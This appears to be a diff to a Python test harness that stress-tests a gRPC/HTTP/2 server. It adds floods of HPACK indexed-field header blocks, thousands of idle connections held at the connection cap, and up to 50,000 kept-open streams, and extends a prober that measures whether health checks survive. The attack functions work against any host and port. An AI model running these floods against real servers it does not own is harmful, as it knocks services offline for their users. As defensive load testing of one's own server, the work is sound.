@@ -13,6 +13,7 @@ The tests (tests/transport/test_attacks.py) assert that no probe is lost; ``make
 
 from __future__ import annotations
 
+import selectors
 import socket
 import struct
 import subprocess
@@ -29,6 +30,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", "/grpc.health.v1.Health/Check"),
            (":authority", "attack"), ("content-type", "application/grpc"), ("te", "trailers")]
 PROBE_EVERY = 0.02
+FRESH_EVERY = 0.5  # seconds between the checks that each open a connection of their own
 PARALLEL = 4  # connections per flood (sendall lets go of the GIL: they do run at once)
 
 
@@ -59,11 +61,11 @@ def _drain(sock: socket.socket) -> None:
 
 
 def _repeat(host: str, port: int, seconds: float, batch: Callable[[int], bytes],
-            read: bool = True) -> None:
-    """Send ``batch(i)`` over and over on ``PARALLEL`` connections at once (a new one when the
+            read: bool = True, parallel: int = PARALLEL) -> None:
+    """Send ``batch(i)`` over and over on ``parallel`` connections at once (a new one when the
     server cuts one); ``batch(0)`` opens each connection's part."""
     threads = [threading.Thread(target=_repeat_one, args=(host, port, seconds, batch, read))
-               for _ in range(PARALLEL)]
+               for _ in range(parallel)]
     for thread in threads:
         thread.start()
     for thread in threads:
@@ -149,6 +151,24 @@ def big_header_blocks(host: str, port: int, seconds: float) -> None:
     _repeat(host, port, seconds, batch)
 
 
+def indexed_field_blocks(host: str, port: int, seconds: float) -> None:
+    """30 connections, each sending 64 header blocks a write of ~1,500 one-byte indexed fields
+    (``:path: /`` from the static table): a header list tiny in bytes, huge in entries, each
+    block made new by a literal field that names its stream (no remembered block)."""
+    fields = b"\x84" * 1500
+
+    def batch(i: int) -> bytes:
+        first = 1 + 2 * 64 * i
+        return b"".join(frame(1, 0x5, sid, fields + _literal(b"x-n", b"%d" % sid))
+                        for sid in range(first, first + 2 * 64, 2))
+    _repeat(host, port, seconds, batch, parallel=30)
+
+
+def _literal(name: bytes, value: bytes) -> bytes:
+    """An HPACK literal field without indexing, a new name (RFC 7541 §6.2.2), short strings."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
 def _message(size: int) -> bytes:
     return struct.pack(">BI", 0, size) + b"\xff" * size  # no protobuf: answered INTERNAL
 
@@ -196,26 +216,82 @@ def idle_connections(host: str, port: int, seconds: float) -> None:
     _hold(host, port, seconds, 800, lambda: b"")
 
 
+def _keep(host: str, port: int, seconds: float, openings: list[bytes]) -> None:
+    """One connection per entry of ``openings``, each sent it and then kept, silent, for
+    ``seconds``: one the server closes is opened again (at most 10 times over in all), as an
+    attacker racing a well-behaved client for the connection cap does."""
+    selector = selectors.DefaultSelector()
+    deadline = time.monotonic() + seconds
+    budget = 10 * len(openings)
+
+    def open_one(opening: bytes) -> None:
+        nonlocal budget
+        budget -= 1
+        try:
+            sock = _connect(host, port)
+            sock.sendall(opening)
+            sock.setblocking(False)
+            selector.register(sock, selectors.EVENT_READ, opening)
+        except OSError:
+            time.sleep(0.01)
+    for opening in openings:
+        if time.monotonic() < deadline:
+            open_one(opening)
+    while (left := deadline - time.monotonic()) > 0:
+        for key, _ in selector.select(min(left, 0.1)):
+            try:
+                alive = key.fileobj.recv(1 << 16)  # type: ignore[union-attr]
+            except BlockingIOError:
+                continue
+            except OSError:
+                alive = b""
+            if not alive:
+                selector.unregister(key.fileobj)
+                key.fileobj.close()  # type: ignore[union-attr]
+                if budget > 0:
+                    open_one(key.data)
+    for key in list(selector.get_map().values()):
+        key.fileobj.close()  # type: ignore[union-attr]
+
+
+def idle_at_cap(host: str, port: int, seconds: float) -> None:
+    """2,000 connections that never send a preface and 2,000 that stop after it, reopened when
+    closed: past --max-connections (1,000) unless the server chooses whom to let go."""
+    _keep(host, port, seconds, [b""] * 2000 + [OPENING] * 2000)
+
+
+def silent_at_cap(host: str, port: int, seconds: float) -> None:
+    """4,500 connections that never send a preface, reopened when closed."""
+    _keep(host, port, seconds, [b""] * 4500)
+
+
 def half_frames(host: str, port: int, seconds: float) -> None:
     """300 connections, each with a 16 KiB DATA frame sent but its last byte."""
     _hold(host, port, seconds, 300,
           lambda: OPENING + frame(0, 0, 1, b"\0" * (16 << 10))[:-1])
 
 
-def many_streams(host: str, port: int, seconds: float) -> None:
-    """20,000 streams opened on one connection and kept open."""
-    sock = _connect(host, port)
-    _drain(sock)
-    deadline = time.monotonic() + seconds
-    try:
-        sock.sendall(OPENING)
-        for i in range(200):
-            sock.sendall(_streams(i, 100, lambda sid: b""))
-        time.sleep(max(0.0, deadline - time.monotonic()))
-    except OSError:
-        pass
-    finally:
-        sock.close()
+def kept_streams(count: int, connections: int = 1) -> Callable[[str, int, float], None]:
+    """An attack opening ``count`` streams over ``connections`` connections (HEADERS only,
+    100 a write), keeping them open for its time, then closing the connections."""
+    def attack(host: str, port: int, seconds: float) -> None:
+        deadline = time.monotonic() + seconds
+        socks = []
+        try:
+            for _ in range(connections):
+                socks.append(_connect(host, port))
+                _drain(socks[-1])
+                socks[-1].sendall(OPENING)
+            for i in range(count // 100 // connections):
+                for sock in socks:
+                    sock.sendall(_streams(i, 100, lambda sid: b""))
+            time.sleep(max(0.0, deadline - time.monotonic()))
+        except OSError:
+            pass
+        finally:
+            for sock in socks:
+                sock.close()
+    return attack
 
 
 def bad_messages(host: str, port: int, seconds: float) -> None:
@@ -234,11 +310,16 @@ ATTACKS: dict[str, Callable[[str, int, float], None]] = {
     "empty-continuations": empty_continuations,
     "rapid-reset": rapid_reset,
     "big-header-blocks": big_header_blocks,
+    "indexed-field-blocks": indexed_field_blocks,
     "tiny-frames": tiny_frames,
     "large-bodies": large_bodies,
     "idle-connections": idle_connections,
+    "idle-at-cap": idle_at_cap,
+    "silent-at-cap": silent_at_cap,
     "half-frames": half_frames,
-    "many-streams": many_streams,
+    "many-streams": kept_streams(20_000),
+    "fifty-thousand-streams": kept_streams(50_000),
+    "fifty-thousand-streams-spread": kept_streams(50_000, connections=100),
     "bad-messages": bad_messages,
 }
 
@@ -251,27 +332,49 @@ def launch(name: str, host: str, port: int, seconds: float) -> subprocess.Popen:
 
 
 class Prober:
-    """A healthy gRPC client checking health every 20 ms in a thread: latencies and losses."""
+    """A healthy gRPC client checking health every 20 ms in a thread: latencies and losses;
+    and beside it, every half second, a check on a connection of its own (as Envoy's
+    reconnecting): how many of those got in."""
 
     def __init__(self, target: str, timeout: float = 5.0) -> None:
         self.target, self.timeout = target, timeout
         self.latencies: list[float] = []
         self.lost: list[str] = []
+        self.fresh_ok = 0
+        self.fresh_failed: list[str] = []
         self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._threads = [threading.Thread(target=self._run, daemon=True),
+                         threading.Thread(target=self._fresh, daemon=True)]
 
     def __enter__(self) -> "Prober":
-        self._thread.start()
+        for thread in self._threads:
+            thread.start()
         return self
 
     def __exit__(self, *_exc: object) -> None:
         self._stop.set()
-        self._thread.join(self.timeout + 5)
+        for thread in self._threads:
+            thread.join(self.timeout + 5)
+
+    def _fresh(self) -> None:
+        while not self._stop.wait(FRESH_EVERY):
+            # a channel of its own subchannel pool: a new TCP connection, not a shared one
+            with grpc.insecure_channel(self.target, options=[
+                    ("grpc.use_local_subchannel_pool", 1)]) as channel:
+                try:
+                    health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(),
+                                                              timeout=self.timeout)
+                    self.fresh_ok += 1
+                except grpc.RpcError as exc:
+                    self.fresh_failed.append(str(exc.code()))  # type: ignore[attr-defined]
 
     def _run(self) -> None:
         with grpc.insecure_channel(self.target) as channel:
             stub = health_pb2_grpc.HealthStub(channel)
-            stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)  # connected
+            try:
+                stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)  # connected
+            except grpc.RpcError as exc:
+                self.lost.append(str(exc.code()))  # type: ignore[attr-defined]
             while not self._stop.is_set():
                 began = time.monotonic()
                 try:
